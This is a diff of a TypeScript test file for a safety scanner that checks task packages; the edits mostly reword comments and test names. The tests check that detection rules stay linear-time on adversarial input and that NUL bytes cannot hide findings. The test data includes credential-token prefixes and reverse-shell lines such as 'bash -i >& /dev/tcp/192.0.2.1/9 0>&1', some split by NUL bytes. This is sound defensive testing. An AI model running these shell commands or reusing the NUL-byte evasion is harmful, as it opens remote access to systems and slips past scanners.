@@ -6,11 +6,11 @@ import { createView, type TaskView } from '../../src/harbor/safety/view.ts'
 import { cpuMs } from '../support/cpu-time.ts'
 import { changed, checkFiles } from './good-task.ts'
 
-// No rule may be quadratic, whatever text it is given. The measure is a search that looks at the next 500 letters from
-// every place of a text of the same length: linear, and about the widest look that a rule takes.
+// No rule may take quadratic time on any text. The reference is a search that reads the next 500 characters at every
+// position of a text of the same length: linear, and about the widest lookahead of a rule.
 
 const LENGTH = 128 * 1024
-/** How often a rule may take the time of that search. The square of the length would be more than a hundred times. */
+/** Maximum time of a rule as a multiple of that search. Quadratic time would be more than a hundred times. */
 const SHARE_MAX = 6
 
 let linearMs = 0
@@ -19,7 +19,7 @@ beforeAll(async () => {
   linearMs = await cpuMs(() => text.search(/.{500}!/))
 })
 
-/** What patterns begin with, over and over, so that each place could be the start of a match. */
+/** Repeated prefixes of patterns, so that a match could start at every position. */
 const PREFIXES = [
   'a', ' ', '.', '\n', '$', '${A', '<!--', '<!-- canary ', 'eyJ', 'eyJhbGciOiJIUzI1NiJ9.', 'sk-', 'sk-proj-T3BlbkFJ', 'ghp_', 'xoxb-1',
   'xoxb-1234567890-', 'SG.', '-----BEGIN ', '-----BEGIN RSA PRIVATE ', 'AKIA', 'glpat-', 'hf_', 'bash -i ', 'bash -i /dev/', 'nc -', 'nc ',
@@ -31,7 +31,7 @@ const PREFIXES = [
 const repeated = (piece: string, length: number): string =>
   piece.repeat(Math.ceil(length / piece.length)).slice(0, length)
 
-/** The view of a task whose texts, commands and instructions are all this text. */
+/** Returns the view of a task whose texts, commands and instructions are all this text. */
 function viewWith(text: string): TaskView {
   const bytes = Buffer.from(text)
   const paths = ['instruction.md', 'environment/app/file.txt', 'solution/solve.sh']
@@ -43,34 +43,34 @@ function viewWith(text: string): TaskView {
   return { ...view, commands: [{ path: 'environment/Dockerfile', line: 1, text }] }
 }
 
-test('the measure can be measured', () => {
+test('the reference search takes measurable time', () => {
   expect(linearMs).toBeGreaterThan(1)
 })
 
-test.each(RULES)('$id is not slower than its share', async (rule) => {
+test.each(RULES)('$id takes linear time', async (rule) => {
   const slow: string[] = []
   for (const prefix of PREFIXES) {
     const view = viewWith(repeated(prefix, LENGTH))
-    // Rules keep what they have worked out for a view; a copy knows nothing yet.
+    // Rules cache results per view, so each run gets a new copy.
     const once = () => rule.check({ ...view })
     const started = performance.now()
     once()
     if (performance.now() - started < SHARE_MAX * linearMs) continue
-    // Perhaps the machine was busy: now in processor time, the best of three.
+    // The machine may be busy: measure CPU time, best of three.
     const ms = await cpuMs(once)
     if (ms > SHARE_MAX * linearMs) slow.push(`${prefix}: ${ms} ms, against ${linearMs} ms`)
   }
   expect(slow).toEqual([])
 })
 
-test('lines of a megabyte in three files are answered in their share', async () => {
+test('three files with lines of a megabyte are checked in linear time', async () => {
   const line = repeated('eval $(base64 -d ', 1_000_000)
   const files = { 'instruction.md': line, 'environment/app/a.txt': line, 'solution/solve.sh': line }
   const texts = (3 * line.length) / LENGTH
   expect(await cpuMs(() => checkFiles(changed(files)))).toBeLessThan(SHARE_MAX * linearMs * texts)
 })
 
-test('whatever stands in the files, there is an answer', async () => {
+test('the check returns a result for any file content', async () => {
   const word = fc.constantFrom(
     ...PREFIXES,
     '\0',
@@ -106,7 +106,7 @@ test.each([
   ['environment/Dockerfile', 'FROM a\nRUN ba\0sh -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
   ['solution/solve.sh', '#!/bin/bash\n\0\nba\0sh -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
   ['tests/run', '#!/bin/bash\n\0\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n'],
-])('a NUL in %s hides nothing', async (path, text) => {
+])('a NUL byte in %s does not hide findings', async (path, text) => {
   const { findings } = await checkFiles(changed({ [path]: text }))
   expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining([expect.stringMatching(/^reverse_shell/)]))
 })
